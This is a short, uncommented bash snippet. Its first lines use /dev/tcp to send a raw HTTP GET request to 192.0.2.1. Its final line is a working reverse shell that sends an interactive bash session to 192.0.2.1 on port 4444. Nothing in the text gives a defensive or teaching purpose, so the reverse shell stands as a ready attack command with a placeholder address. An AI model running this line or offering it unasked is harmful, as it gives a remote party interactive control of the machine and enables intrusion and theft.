exec 3<>/dev/tcp/192.0.2.1/80
printf 'GET / HTTP/1.0\r\n\r\n' >&3
cat <&3
exec 3>&-
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
